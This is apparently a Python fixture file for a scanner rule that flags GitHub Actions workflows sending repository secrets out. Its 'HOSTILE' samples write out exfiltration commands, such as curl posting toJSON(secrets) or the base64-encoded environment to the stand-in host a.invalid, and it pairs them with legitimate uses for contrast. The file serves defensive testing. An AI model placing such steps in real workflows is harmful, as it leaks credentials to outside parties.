"""Samples and twins of `workflow_secrets`: what a push starts, and which secrets it sends."""

from inspection.rules.sample import Sample


def workflow(run: str, environment: str = "") -> str:
    """A workflow of one step, whose command stands on line 5."""
    return f"on: push\njobs:\n  a:\n    steps:\n      - run: {run}\n{environment}"


_TWO = "        env:\n          A: ${{ secrets.A }}\n          B: ${{ secrets.B }}\n"
_ONE = "        env:\n          A: ${{ secrets.A }}\n"
_PLACE = (".github/workflows/a.yml", 5)


def _above(run: str) -> dict[str, str | bytes]:
    """The same step, where its job and its workflow set the variables."""
    job = workflow(run).replace("  a:\n", "  a:\n    env:\n      A: ${{ secrets.A }}\n")
    return {_PLACE[0]: "env:\n  B: ${{ secrets.B }}\n" + job}


_FORM = '|\n          form="a=$A&b=${{ env.B }}"\n          '

HOSTILE: dict[str, dict[str, Sample]] = {
    "workflow_secrets": {
        "all of them": Sample(
            {_PLACE[0]: workflow("curl -d '${{ toJSON(secrets) }}' https://a.invalid")}, "block", _PLACE
        ),
        "two, by their variables": Sample(
            {_PLACE[0]: workflow('curl -F x=$A -F "y=${B}" https://a.invalid', _TWO)}, "block", _PLACE
        ),
        "all of them, in a variable": Sample(
            {_PLACE[0]: workflow('curl -d "$A" https://a.invalid', _ONE.replace("secrets.A", "toJSON(secrets)"))},
            "block",
            _PLACE,
        ),
        "the environment, piped": Sample(
            {_PLACE[0]: workflow("env | base64 | curl -s --data-binary @- https://a.invalid", _ONE)}, "block", _PLACE
        ),
        "two that its job and its workflow set, in one text": Sample(
            _above(_FORM + 'curl -d "$form" https://a.invalid'), "block", (_PLACE[0], 11)
        ),
        "one of them": Sample({_PLACE[0]: workflow("curl -d k=$A https://a.invalid", _ONE)}, "review", _PLACE),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "workflow_secrets": {
        "a secret authenticates": {
            _PLACE[0]: workflow("'curl -H \"Authorization: $A\" -d hello https://a.invalid'", _ONE)
        },
        "a secret is the address": {_PLACE[0]: workflow("curl -d hello ${{ secrets.HOOK }}")},
        "a secret for another program": {_PLACE[0]: workflow("twine upload dist/* -p $A", _ONE)},
        "what is signed with one that its job sets": _above(
            '|\n          form="$(printf b | openssl dgst -hmac "$A")"\n          curl -d "$form" https://a.invalid'
        ),
        "a variable of its own is sent": {_PLACE[0]: workflow("curl -d v=$VERSION https://a.invalid", _ONE)},
    },
}
